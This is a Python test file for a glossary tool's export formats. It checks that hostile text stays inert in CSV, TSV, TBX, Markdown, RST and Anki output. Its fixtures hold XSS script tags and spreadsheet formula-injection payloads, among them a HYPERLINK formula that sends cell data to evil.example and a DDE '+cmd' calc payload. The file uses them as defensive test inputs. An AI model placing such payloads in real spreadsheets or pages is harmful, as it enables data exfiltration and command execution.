"""Exports: the registry, the command, and each document / exchange format read back by
the tool that consumes it (csv, json, an XML parser, markdown-it, Python-Markdown, Sphinx)."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
import textwrap
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from typer.testing import CliRunner

from glossary import export as ex
from glossary.cli import app
from glossary.export.csv import COLUMNS, parse_aliases, plain, unescape_tsv
from glossary.export.tbx import NS
from glossary.terms.model import Alias, Concept, Source
from glossary.terms.store import load, save
from tests.conftest import REPO, fake_distribution

runner = CliRunner()

HOSTILE = [
    Concept(
        id="pipe-term",
        category="meme",
        en="a|b <b>bold</b> *star* `tick` [x](y)",
        zh="管道",
        note="Note with | pipes, <script>alert(1)</script> & an entity &amp; and a trailing :: colon",
        aliases=[Alias("#Hash|tag", "hashtag"), Alias("1. not a list", "variant")],
        status="reviewed",
    ),
    Concept(
        id="script-term",
        category="meme",
        en="<script>window.__pwned=1</script>",
        zh="脚本",
        note="</script><!-- comment -->",
        sources=[Source("corpus/x.md", 2, "We saw <script>window.__pwned=1</script> here.")],
    ),
]


@pytest.fixture
def hostile_file(tmp_path: Path, terms_file: Path) -> Path:
    """The sample glossary plus concepts whose text tries to break every format."""
    g = load(terms_file)
    path = tmp_path / "hostile.yaml"
    save(path, [*g.concepts, *HOSTILE], name="Hostile <glossary> | test", description="Desc & <i>more</i>")
    return path


def data(path: Path, **filters) -> ex.ExportData:
    return ex.data_for(load(path), **filters)


# --- registry -------------------------------------------------------------------------


def test_builtin_formats_are_registered() -> None:
    assert {
        "anki",
        "csv",
        "tsv",
        "json",
        "markdown",
        "markdown-dl",
        "rst",
        "mkdocs",
        "omegat",
        "omegat-zh-en",
        "tbx",
        "html",
    } <= set(ex.names())
    assert ex.get("anki").binary and ex.get("anki").suffix == ".apkg"
    assert not ex.get("html").binary


def test_register_get_and_conflicts() -> None:
    def shout(d: ex.ExportData) -> str:
        """Ids in capitals."""
        return " ".join(c.id.upper() for c in d.concepts)

    ex.register("shout-test", shout)
    try:
        assert ex.get("shout-test").description == "Ids in capitals."
        assert ex.get("shout-test")(ex.ExportData((Concept(id="a", en="A"),))) == b"A"
        with pytest.raises(ex.UsageError, match="already registered"):
            ex.register("shout-test", shout)
        ex.register("shout-test", shout, replace=True)
    finally:
        ex.unregister("shout-test")
    with pytest.raises(ex.UsageError, match="unknown export format 'shout-test'"):
        ex.get("shout-test")


def test_plugins_are_found_by_entry_point_and_loaded_lazily(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, terms_file: Path
) -> None:
    """A package installed with an entry point in 'glossary.exporters' becomes a format; it is imported only when used."""
    (tmp_path / "glossary_plugin_demo.py").write_text(
        textwrap.dedent("""
        import sys
        from glossary.export import Exporter
        LOADED = True
        exporter = Exporter(lambda d: "".join(c.id + "\\n" for c in d.concepts), suffix=".ids", description="one id per line")
    """),
        encoding="utf-8",
    )
    (tmp_path / "glossary_plugin_broken.py").write_text("raise RuntimeError('boom')\n", encoding="utf-8")
    fake_distribution(
        tmp_path,
        "glossary_plugin_demo",
        "[glossary.exporters]\nids = glossary_plugin_demo:exporter\nbroken = glossary_plugin_broken:exporter\n",
    )
    monkeypatch.syspath_prepend(str(tmp_path))
    try:
        assert {"ids", "broken"} <= set(ex.names())
        assert "glossary_plugin_demo" not in sys.modules  # listed, not imported
        result = runner.invoke(app, ["export", "--format", "ids", "--glossary", str(terms_file)])
        assert result.exit_code == 0, result.output
        assert result.stdout.split() == ["bytedance", "cat-tax", "xiaohongshu", "tiktok-refugee"]
        assert "glossary_plugin_demo" in sys.modules
        result = runner.invoke(app, ["export", "--format", "broken", "--glossary", str(terms_file)])
        assert result.exit_code == 9
        assert "cannot load exporter 'broken' from glossary_plugin_broken:exporter: RuntimeError: boom" in result.stderr
        listing = runner.invoke(app, ["export", "--list"]).stdout
        assert "ids " in listing and "one id per line" in listing and "cannot load" in listing
    finally:
        ex.unregister("ids")
        sys.modules.pop("glossary_plugin_demo", None)


# --- the command ------------------------------------------------------------------------


def test_list_shows_every_format() -> None:
    result = runner.invoke(app, ["export", "--list"])
    assert result.exit_code == 0
    lines = result.stdout.splitlines()
    assert [line.split()[0] for line in lines] == sorted(ex.names())
    assert any(line.startswith("anki") and ".apkg" in line for line in lines)
    rows = json.loads(runner.invoke(app, ["export", "--list", "--json"]).stdout)
    assert {r["name"] for r in rows} == set(ex.names())


@pytest.mark.parametrize(
    "fmt",
    sorted(
        n
        for n in ex.names()
        if n
        in {
            "anki",
            "csv",
            "tsv",
            "json",
            "markdown",
            "markdown-dl",
            "rst",
            "mkdocs",
            "omegat",
            "omegat-zh-en",
            "tbx",
            "tbx2",
            "html",
        }
    ),
)
def test_every_format_is_reproducible(fmt: str, tmp_path: Path, hostile_file: Path) -> None:
    """Two exports of the same file give the same bytes; the -o file holds exactly them."""
    a, b = tmp_path / f"a{ex.get(fmt).suffix}", tmp_path / f"b{ex.get(fmt).suffix}"
    for out in (a, b):
        result = runner.invoke(app, ["export", "-f", fmt, "-o", str(out), "--glossary", str(hostile_file)])
        assert result.exit_code == 0, result.output
        assert f"wrote 6 concepts as {fmt} to {out}" in result.stderr
    assert a.read_bytes() == b.read_bytes()
    assert a.read_bytes() == ex.export(load(hostile_file), fmt)


def test_export_to_stdout_and_to_a_directory(tmp_path: Path, terms_file: Path) -> None:
    result = runner.invoke(app, ["export", "-f", "json", "--glossary", str(terms_file)])
    assert result.exit_code == 0
    assert [c["id"] for c in json.loads(result.stdout)["concepts"]] == [
        "bytedance",
        "cat-tax",
        "xiaohongshu",
        "tiktok-refugee",
    ]
    result = runner.invoke(app, ["export", "-f", "markdown", "-o", str(tmp_path), "--glossary", str(terms_file)])
    assert result.exit_code == 0
    assert (
        result.stderr
        == f"wrote 4 concepts as markdown to {tmp_path / 'glossary.md'} ({(tmp_path / 'glossary.md').stat().st_size:,} bytes)\n"
    )
    assert (tmp_path / "glossary.md").read_text(encoding="utf-8").startswith("# Test glossary\n")


def test_filters_by_category_and_status(terms_file: Path) -> None:
    def ids(*args: str) -> list[str]:
        result = runner.invoke(app, ["export", "-f", "json", "--glossary", str(terms_file), *args])
        assert result.exit_code == 0, result.output
        return [c["id"] for c in json.loads(result.stdout)["concepts"]]

    assert ids("--category", "platform") == ["xiaohongshu"]
    assert ids("-c", "platform", "-c", "company") == ["bytedance", "xiaohongshu"]
    assert ids("--status", "candidate") == ["cat-tax"]


def test_bad_arguments_are_clear_errors(terms_file: Path, tmp_path: Path) -> None:
    cases = [
        (
            ["export", "--glossary", str(terms_file)],
            2,
            "error: give --format FORMAT (glossary export --list shows the formats)\n",
        ),
        (["export", "-f", "pdf", "--glossary", str(terms_file)], 2, "error: unknown export format 'pdf' (known: "),
        (
            ["export", "-f", "csv", "-c", "planet", "--glossary", str(terms_file)],
            2,
            "error: unknown category 'planet' (expected one of: platform,",
        ),
        (
            ["export", "-f", "csv", "-s", "done", "--glossary", str(terms_file)],
            2,
            "error: unknown status 'done' (expected one of: candidate, reviewed)\n",
        ),
        (
            ["export", "-f", "csv", "-c", "custom", "-s", "reviewed", "--glossary", str(terms_file)],
            3,
            "error: no concept matches category custom and status reviewed\n",
        ),
        (
            ["export", "-f", "csv", "-o", str(tmp_path / "missing" / "x.csv"), "--glossary", str(terms_file)],
            3,
            f"error: {tmp_path / 'missing'}: no such directory\n",
        ),
        (
            ["export", "-f", "csv", "--glossary", str(tmp_path / "nope.yaml")],
            3,
            f"error: {tmp_path / 'nope.yaml'}: no such glossary file\n",
        ),
    ]
    for args, code, message in cases:
        result = runner.invoke(app, args)
        assert result.exit_code == code, (args, result.output)
        assert result.stderr.startswith(message), (args, result.stderr)
        assert result.stdout == ""
    assert not (tmp_path / "missing").exists()


def test_a_broken_glossary_is_reported_not_exported(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("concepts:\n  - id: Bad Id\n    en: x\n", encoding="utf-8")
    result = runner.invoke(app, ["export", "-f", "csv", "-o", str(tmp_path / "out.csv"), "--glossary", str(bad)])
    assert result.exit_code == 4
    assert "must be lower-case letters, digits and hyphens" in result.stderr
    assert not (tmp_path / "out.csv").exists()


def test_order_is_alphabetical_and_independent_of_file_order(tmp_path: Path, terms_file: Path) -> None:
    g = load(terms_file)
    reversed_file = tmp_path / "reversed.yaml"
    save(reversed_file, list(reversed(g.concepts)), name=g.name)
    os.utime(reversed_file, (os.stat(terms_file).st_mtime,) * 2)
    for fmt in ("json", "tbx", "html", "anki"):
        assert ex.export(load(reversed_file), fmt) == ex.export(g, fmt), fmt


# --- exchange formats ---------------------------------------------------------------------


def read_rows(fmt: str, content: bytes) -> list[dict[str, str]]:
    """The rows of a CSV (the csv module) or TSV (one record per line, split on tabs), cells as written."""
    text = content.decode("utf-8-sig")
    if fmt == "csv":
        return list(csv.DictReader(io.StringIO(text)))
    lines = text.split("\n")
    assert lines[-1] == ""
    header, *records = [line.split("\t") for line in lines[:-1]]
    return [dict(zip(header, r, strict=True)) for r in records]


def test_csv_and_tsv_read_back(hostile_file: Path) -> None:
    g = load(hostile_file)
    for fmt in ("csv", "tsv"):
        unescape = plain if fmt == "csv" else (lambda cell: plain(unescape_tsv(cell)))
        rows = [{k: unescape(v) for k, v in r.items()} for r in read_rows(fmt, ex.export(g, fmt))]
        by_id = {r["id"]: r for r in rows}
        assert len(rows) == len(g.concepts)
        for c in g.concepts:
            r = by_id[c.id]
            for name in ("category", "status", "zh", "zh_hant", "pinyin", "en", "literal", "gloss", "note"):
                assert r[name] == (getattr(c, name) or ""), (c.id, name)
            assert parse_aliases(r["aliases"]) == [Alias(a.text, a.kind) for a in c.aliases]
            assert r["sources"].splitlines() == [f"{s.path}:{s.line}" if s.line else s.path for s in c.sources]
    assert ex.export(g, "csv").startswith("\ufeffid,category,status,".encode())


def test_csv_and_tsv_give_each_sources_post_id_and_date_line_for_line(tmp_path: Path) -> None:
    """``source_ids`` and ``source_dates`` hold a line per source (empty for a source without one),
    untrusted text made inert: on one line, a formula neutralised."""
    sources = [
        Source("news.txt", 5, "RedNote again."),
        Source("posts.jsonl", 3, "RedNote is here.", id='=HYPERLINK("http://x")\tand\nmore', date="2025-01-14"),
        Source("posts.jsonl", 4, id="9f1c"),
    ]
    c = Concept(id="xhs", zh="小红书", en="RedNote", sources=sources)
    bare = Concept(id="bare", en="Bare", sources=[Source("a.txt", 1)])
    for fmt in ("csv", "tsv"):
        unescape = plain if fmt == "csv" else (lambda cell: plain(unescape_tsv(cell)))
        rows = {r["id"]: r for r in read_rows(fmt, ex.get(fmt)(ex.ExportData((c, bare))))}
        assert COLUMNS[-3:] == ["sources", "source_ids", "source_dates"]
        row = {k: unescape(v) for k, v in rows["xhs"].items()}
        assert row["sources"].split("\n") == ["news.txt:5", "posts.jsonl:3", "posts.jsonl:4"]
        assert row["source_ids"].split("\n") == ["", '=HYPERLINK("http://x") and more', "9f1c"]
        assert row["source_dates"].split("\n") == ["", "2025-01-14", ""]
        assert rows["bare"]["source_ids"] == rows["bare"]["source_dates"] == ""
    first = Concept(id="first", en="First", sources=[Source("p.jsonl", 1, id="=1+2")])
    (row,) = read_rows("csv", ex.get("csv")(ex.ExportData((first,))))
    assert row["source_ids"] == "'=1+2"  # a spreadsheet would run it: neutralised


def test_json_round_trips_every_concept(hostile_file: Path) -> None:
    g = load(hostile_file)
    doc = json.loads(ex.export(g, "json"))
    assert doc["name"] == g.name and doc["description"] == g.description
    assert sorted((Concept.from_dict(d) for d in doc["concepts"]), key=lambda c: c.id) == sorted(
        g.concepts, key=lambda c: c.id
    )


def test_omegat_has_three_tab_columns_and_no_comment_lines(hostile_file: Path) -> None:
    for fmt in ("omegat", "omegat-zh-en"):
        lines = ex.export(load(hostile_file), fmt).decode("utf-8").splitlines()
        assert lines[0] == "# Glossary in tab-separated format -*- coding: utf-8 -*-"
        rows = [line.split("\t") for line in lines[1:]]
        assert all(2 <= len(r) <= 3 and r[0] and r[1] and not r[0].startswith("#") for r in rows)
        if fmt == "omegat":
            assert ["RedNote", "小红书", "Xiǎohóngshū · 小紅書"] in rows
            assert ["Little Red Book", "小红书", "calque · Xiǎohóngshū · 小紅書"] in rows
            assert ["TikTokRefugee", "TikTok难民", "hashtag · TikTok nànmín · TikTok難民"] in rows
        else:
            assert ["小紅書", "RedNote", "traditional · Xiǎohóngshū"] in rows


def test_tbx_structure(hostile_file: Path) -> None:
    root = ET.fromstring(ex.export(load(hostile_file), "tbx"))
    t = lambda name: f"{{{NS}}}{name}"  # noqa: E731
    lang = "{http://www.w3.org/XML/1998/namespace}lang"
    assert root.tag == t("tbx") and root.get("type") == "TBX-Basic" and root.get("style") == "dca"
    assert (
        root.find(f"{t('tbxHeader')}/{t('fileDesc')}/{t('titleStmt')}/{t('title')}").text == "Hostile <glossary> | test"
    )
    entries = root.findall(f"{t('text')}/{t('body')}/{t('conceptEntry')}")
    assert len(entries) == 6
    xhs = next(e for e in entries if e.get("id") == "xiaohongshu")
    assert xhs.find(t("descrip")).attrib == {"type": "subjectField"} and xhs.find(t("descrip")).text == "platform"
    secs = {ls.get(lang): ls for ls in xhs.findall(t("langSec"))}
    assert list(secs) == ["en", "zh-Hans", "zh-Hant"]
    assert secs["en"].find(t("descrip")).get("type") == "definition"

    def terms(ls: ET.Element) -> dict[str, dict[str, str]]:
        out = {}
        for sec in ls.findall(t("termSec")):
            children = list(sec)
            assert children[0].tag == t("term")  # a termSec starts with its term, then term notes
            out[children[0].text] = {n.get("type"): n.text for n in sec.findall(t("termNote"))}
        return out

    en = terms(secs["en"])
    assert list(en) == ["RedNote", "Xiaohongshu", "Little Red Book", "Red Note"]
    assert en["RedNote"] == {"partOfSpeech": "noun", "administrativeStatus": "preferredTerm-admn-sts"}
    assert en["Red Note"] == {
        "partOfSpeech": "noun",
        "administrativeStatus": "admittedTerm-admn-sts",
        "termType": "variant",
    }
    assert terms(secs["zh-Hant"]) == {
        "小紅書": {"partOfSpeech": "noun", "administrativeStatus": "preferredTerm-admn-sts"}
    }
    notes = [n.text for n in secs["zh-Hans"].iter(t("note"))]
    assert notes == ["pinyin: Xiǎohóngshū", "literally: little red book"]

    # context sentences from the sources, with their location
    refugee = next(e for e in entries if e.get("id") == "tiktok-refugee")
    grp = next(refugee.iter(t("descripGrp")))
    assert [(d.tag, d.get("type"), d.text) for d in grp] == [
        (t("descrip"), "context", "Millions of TikTok refugees joined RedNote."),
        (t("admin"), "source", "corpus/news.txt:3"),
    ]
    # hostile text is escaped, not markup
    script = next(e for e in entries if e.get("id") == "script-term")
    assert "<script>window.__pwned=1</script>" in [x.text for x in script.iter(t("term"))]
    assert all(el.tag.startswith(f"{{{NS}}}") for el in root.iter())


def test_tbx_deprecated_aliases_and_ids() -> None:
    c = Concept(
        id="996",
        category="slang",
        zh="996",
        en="996 schedule",
        aliases=[Alias("nine nine six", "misspelling"), Alias("9-9-6", "abbreviation")],
    )
    root = ET.fromstring(ex.get("tbx")(ex.ExportData((c,))))
    entry = root.find(f".//{{{NS}}}conceptEntry")
    assert entry.get("id") == "c-996"  # an XML ID cannot start with a digit
    status = {
        s.find(f"{{{NS}}}term").text: [n.text for n in s.findall(f"{{{NS}}}termNote")]
        for s in entry.iter(f"{{{NS}}}termSec")
    }
    assert status["nine nine six"] == ["other", "deprecatedTerm-admn-sts", "variant"]
    assert status["9-9-6"] == ["other", "admittedTerm-admn-sts", "abbreviation"]


# --- documentation formats ------------------------------------------------------------------


def test_markdown_table_renders_one_row_per_concept_with_text_intact(hostile_file: Path) -> None:
    from markdown_it import MarkdownIt

    g = load(hostile_file)
    text = ex.export(g, "markdown").decode()
    assert "a\\|b" in text
    for renderer in ("markdown-it", "python-markdown"):
        if renderer == "markdown-it":
            page = MarkdownIt("commonmark").enable("table").render(text)
        else:
            import markdown

            page = markdown.markdown(text, extensions=["tables"])
        table = ET.fromstring(page[page.index("<table>") : page.index("</table>") + 8])
        rows = table.findall("./tbody/tr")
        assert len(rows) == len(g.concepts), renderer
        assert all(len(r.findall("td")) == 6 for r in rows), renderer
        pipe = next(r for r in rows if "".join(r.find("td").itertext()) == "管道")
        cells = ["".join(td.itertext()) for td in pipe.findall("td")]
        assert cells[2] == "a|b <b>bold</b> *star* `tick` [x](y)", renderer
        assert "<script>alert(1)</script>" in cells[5] and "&amp;" in cells[5], renderer
        assert pipe.find(".//script") is None and pipe.find(".//b") is None


def test_markdown_definition_list_with_python_markdown(hostile_file: Path) -> None:
    import markdown

    g = load(hostile_file)
    page = markdown.markdown(ex.export(g, "markdown-dl").decode(), extensions=["def_list"])
    dl = ET.fromstring(page[page.index("<dl>") : page.index("</dl>") + 5])
    terms = ["".join(dt.itertext()) for dt in dl.findall("dt")]
    assert len(terms) == len(g.concepts)
    assert "RedNote · 小红书 (小紅書) · Xiǎohóngshū" in terms
    assert "a|b <b>bold</b> *star* `tick` [x](y) · 管道" in terms
    assert dl.find(".//script") is None and dl.find(".//ol") is None


def test_mkdocs_abbreviations_with_python_markdown(hostile_file: Path) -> None:
    import markdown

    abbr = ex.export(load(hostile_file), "mkdocs").decode()
    page = markdown.markdown("RedNote and Little Red Book, but not rednote.\n\n" + abbr, extensions=["abbr"])
    titles = dict(
        (m.group(2), m.group(1)) for m in __import__("re").finditer(r'<abbr title="([^"]*)">([^<]*)</abbr>', page)
    )
    assert set(titles) == {"RedNote", "Little Red Book"}
    assert titles["RedNote"].startswith("小红书 (小紅書) · Xiǎohóngshū · RedNote — Chinese lifestyle app")
    page = markdown.markdown("脚本 here\n\n" + abbr, extensions=["abbr"])
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in page and "<script>" not in page


def test_rst_glossary_builds_with_sphinx_without_warnings(tmp_path: Path, hostile_file: Path) -> None:
    """A tiny Sphinx project includes the export; -W turns any warning (bad markup, duplicate term) into a failure."""
    pytest.importorskip("sphinx", reason="the test extra installs sphinx")
    src = tmp_path / "src"
    src.mkdir()
    (src / "conf.py").write_text("project = 'test'\n", encoding="utf-8")
    (src / "glossary.rst").write_bytes(ex.export(load(hostile_file), "rst"))
    (src / "index.rst").write_text(
        "Index\n=====\n\n:term:`RedNote`, :term:`小紅書`, :term:`Little Red Book` and :term:`#TikTokRefugee`;\n"
        ":ref:`小红书 <glossary-xiaohongshu>`.\n\n"
        ".. toctree::\n\n   glossary\n",
        encoding="utf-8",
    )
    command = [sys.executable, "-m", "sphinx", "-b", "xml", "-W", "-q", "-E", str(src), str(tmp_path / "out")]
    build = subprocess.run(command, capture_output=True, text=True)
    assert build.returncode == 0, build.stderr
    doc = ET.parse(tmp_path / "out" / "glossary.xml").getroot()
    items = doc.findall(".//glossary//definition_list_item")
    assert len(items) == 6
    terms = {
        tuple("".join(t.itertext()) for t in item.findall("term")): "".join(item.find("definition").itertext())
        for item in items
    }
    assert ("RedNote", "小红书", "小紅書", "Xiaohongshu", "Little Red Book", "Red Note") in terms
    assert ("a|b <b>bold</b> *star* `tick` [x](y)", "管道", "#Hash|tag", "1. not a list") in terms
    pipe = terms[("a|b <b>bold</b> *star* `tick` [x](y)", "管道", "#Hash|tag", "1. not a list")]
    assert "<script>alert(1)</script>" in pipe and "trailing :: colon" in pipe
    refs = [r.get("refuri") for r in ET.parse(tmp_path / "out" / "index.xml").getroot().iter("reference")]
    assert refs[:4] == ["glossary#term-RedNote", refs[1], "glossary#term-Little-Red-Book", refs[3]] and all(refs[:4])
    assert "glossary#glossary-xiaohongshu" in refs, refs  # :ref: to the concept id's anchor
    before, numbered = _anchors(doc), _term_ids(doc)
    assert sorted(before.values()) == sorted(f"glossary-{c.id}" for c in load(hostile_file).concepts)

    # the glossary grows by an entry that comes first, with a Chinese term: every other entry keeps its anchor
    grown = load(hostile_file)
    first = Concept(id="aaa-new", category="slang", en="AAA first", zh="阿阿", status="reviewed")
    save(hostile_file, [first, *grown.concepts])
    (src / "glossary.rst").write_bytes(ex.export(load(hostile_file), "rst"))
    build = subprocess.run(command, capture_output=True, text=True)
    assert build.returncode == 0, build.stderr
    doc = ET.parse(tmp_path / "out" / "glossary.xml").getroot()
    after = _anchors(doc)
    assert after.pop(("AAA first", "阿阿")) == "glossary-aaa-new" and after == before
    assert _term_ids(doc)["管道"] != numbered["管道"]  # while Sphinx's numbered id of a Chinese term moved


def _anchors(doc: ET.Element) -> dict[tuple[str, ...], str | None]:
    """Each glossary entry's terms → the id of the explicit target at the head of its definition."""
    return {
        tuple("".join(t.itertext()) for t in item.findall("term")): item.find("definition/target").get("refid")
        for item in doc.findall(".//glossary//definition_list_item")
    }


def _term_ids(doc: ET.Element) -> dict[str, str | None]:
    return {"".join(t.itertext()): t.get("ids") for t in doc.iter("term")}


# --- spreadsheet-safe cells and inert text ---------------------------------------------------

FORMULAS_YAML = r"""name: formulas
concepts:
  - id: formula
    category: meme
    zh: 公式
    en: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
    pinyin: "-1"
    literal: "+cmd|' /C calc'!A0"
    gloss: "@SUM(A1:A9)"
    note: "\tTab first, then NUL \0 here,\r a bare CR\r\nand a CRLF, a backslash \\n and a tab\there"
    aliases:
      - {text: "Xiǎohóngshū - RedNote", kind: variant}
      - {text: "'=already quoted", kind: variant}
    sources:
      - {path: corpus/x.txt, line: 3, sentence: "=HYPERLINK(\"http://evil.example\")"}
  - id: plain
    category: meme
    zh: 平常
    pinyin: Dì-yī
    en: First - and @second + third
    note: "Ends with = + - @"
"""


@pytest.fixture
def formulas_file(tmp_path: Path) -> Path:
    path = tmp_path / "formulas.yaml"
    path.write_text(FORMULAS_YAML, encoding="utf-8")
    return path


def test_csv_and_tsv_cells_never_start_a_formula(formulas_file: Path) -> None:
    g = load(formulas_file)
    for fmt in ("csv", "tsv"):
        content = ex.export(g, fmt)
        rows = read_rows(fmt, content)
        assert [r["id"] for r in rows] == ["plain", "formula"]
        for r in rows:
            assert set(r) == set(COLUMNS)
            for cell in r.values():
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (fmt, cell)
        formula, ordinary = rows[1], rows[0]
        assert formula["en"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
        assert (
            formula["pinyin"] == "'-1" and formula["literal"].startswith("'+cmd") and formula["gloss"] == "'@SUM(A1:A9)"
        )
        assert formula["example"] == '\'=HYPERLINK("http://evil.example")'
        # values that merely hold these characters later on are left as they are
        assert (ordinary["pinyin"], ordinary["en"], ordinary["note"]) == (
            "Dì-yī",
            "First - and @second + third",
            "Ends with = + - @",
        )
        unescape = plain if fmt == "csv" else (lambda cell: plain(unescape_tsv(cell)))
        assert parse_aliases(unescape(formula["aliases"])) == [
            Alias("Xiǎohóngshū - RedNote", "variant"),
            Alias("'=already quoted", "variant"),
        ]
        assert (
            unescape(formula["note"])
            == "\tTab first, then NUL  here,\n a bare CR\nand a CRLF, a backslash \\n and a tab\there"
        )


def test_tsv_has_one_record_per_line(formulas_file: Path, hostile_file: Path) -> None:
    for path in (formulas_file, hostile_file):
        lines = ex.export(load(path), "tsv").decode("utf-8").split("\n")
        assert lines[-1] == "" and len(lines) - 2 == len(load(path).concepts)
        assert {len(line.split("\t")) for line in lines[:-1]} == {len(COLUMNS)}


@pytest.mark.parametrize(
    "fmt", ["csv", "tsv", "markdown", "markdown-dl", "rst", "mkdocs", "omegat", "omegat-zh-en", "anki"]
)
def test_nul_and_bare_cr_never_reach_an_export(fmt: str, formulas_file: Path, tmp_path: Path) -> None:
    content = ex.export(load(formulas_file), fmt)
    if fmt == "anki":
        import sqlite3
        import zipfile

        db = tmp_path / "deck.anki2"
        with zipfile.ZipFile(io.BytesIO(content)) as z:
            db.write_bytes(z.read("collection.anki2"))
        content = "".join(flds for (flds,) in sqlite3.connect(db).execute("SELECT flds FROM notes")).encode("utf-8")
        assert b"Tab first" in content
    assert b"\x00" not in content
    assert b"\r" not in content.replace(b"\r\n", b"")  # the CSV's own line ends are CRLF


# --- where -o writes ---------------------------------------------------------------------------


def export_to(target: str, terms: Path, fmt: str = "csv"):
    return runner.invoke(app, ["export", "-f", fmt, "-o", target, "--glossary", str(terms)])


def test_output_through_a_symlink_replaces_the_target_and_keeps_the_link(tmp_path: Path, terms_file: Path) -> None:
    real = tmp_path / "releases" / "v1.csv"
    real.parent.mkdir()
    real.write_text("old", encoding="utf-8")
    os.chmod(real, 0o640)
    link = tmp_path / "current.csv"
    link.symlink_to(real)
    result = export_to(str(link), terms_file)
    assert result.exit_code == 0, result.output
    assert result.stderr.startswith(f"wrote 4 concepts as csv to {real} (")
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert real.read_bytes() == ex.export(load(terms_file), "csv")
    assert oct(real.stat().st_mode & 0o777) == oct(0o640)
    assert sorted(p.name for p in real.parent.iterdir()) == ["v1.csv"]  # no temporary file left


def test_output_to_a_fifo_or_device_is_refused(tmp_path: Path, terms_file: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    result = export_to(str(fifo), terms_file)
    assert result.exit_code == 8
    assert result.stderr == f"error: {fifo} is a FIFO, not a file: not writing to it\n"
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    link = tmp_path / "to-pipe"
    link.symlink_to(fifo)
    assert export_to(str(link), terms_file).stderr == f"error: {fifo} is a FIFO, not a file: not writing to it\n"
    if os.path.exists("/dev/full"):
        result = export_to("/dev/full", terms_file)
        assert result.exit_code == 8
        assert result.stderr == "error: /dev/full is a character device, not a file: not writing to it\n"
        assert stat.S_ISCHR(os.stat("/dev/full").st_mode)


def test_output_to_a_folder_uses_the_default_file_name(tmp_path: Path, terms_file: Path) -> None:
    out = tmp_path / "out"
    result = export_to(f"{out}/", terms_file, "anki")  # a path ending in /: the folder is made
    assert result.exit_code == 0, result.output
    assert result.stderr.startswith(f"wrote 4 concepts as anki to {out / 'glossary.apkg'} (")
    assert (out / "glossary.apkg").read_bytes()[:2] == b"PK"
    result = export_to(str(out), terms_file, "tbx")  # an existing folder, no slash
    assert result.exit_code == 0 and (out / "glossary.tbx").is_file()
    result = export_to(f"{tmp_path / 'missing' / 'deeper'}/", terms_file)
    assert result.exit_code == 3
    assert result.stderr == f"error: {tmp_path / 'missing'}: no such directory\n"
    (tmp_path / "file").write_text("x", encoding="utf-8")
    result = export_to(f"{tmp_path / 'file'}/", terms_file)
    assert result.exit_code == 8 and result.stderr == f"error: {tmp_path / 'file'}/: not a directory\n"


def test_progress_shows_on_a_terminal_only(tmp_path: Path) -> None:
    big = tmp_path / "big.yaml"
    big.write_text(
        "name: big\nconcepts:\n"
        + "".join(f"  - {{id: term-{i}, category: meme, en: Term {i}}}\n" for i in range(2000)),
        encoding="utf-8",
    )
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    cmd = [
        sys.executable,
        "-m",
        "glossary",
        "export",
        "-f",
        "csv",
        "-o",
        str(tmp_path / "big.csv"),
        "--glossary",
        str(big),
    ]
    piped = subprocess.run(cmd, capture_output=True, env=env, cwd=tmp_path)
    assert (
        piped.returncode == 0
        and piped.stderr.decode()
        == f"wrote 2000 concepts as csv to {tmp_path / 'big.csv'} ({(tmp_path / 'big.csv').stat().st_size:,} bytes)\n"
    )
    import pty

    leader, follower = pty.openpty()
    try:
        proc = subprocess.run(cmd, stdout=subprocess.DEVNULL, stderr=follower, env=env, cwd=tmp_path)
        os.close(follower)
        seen = b""
        while True:
            try:
                chunk = os.read(leader, 4096)
            except OSError:
                break
            if not chunk:
                break
            seen += chunk
    finally:
        os.close(leader)
    assert proc.returncode == 0
    assert b"exporting 2,000 concepts as csv\xe2\x80\xa6" in seen and b"wrote 2000 concepts as csv" in seen
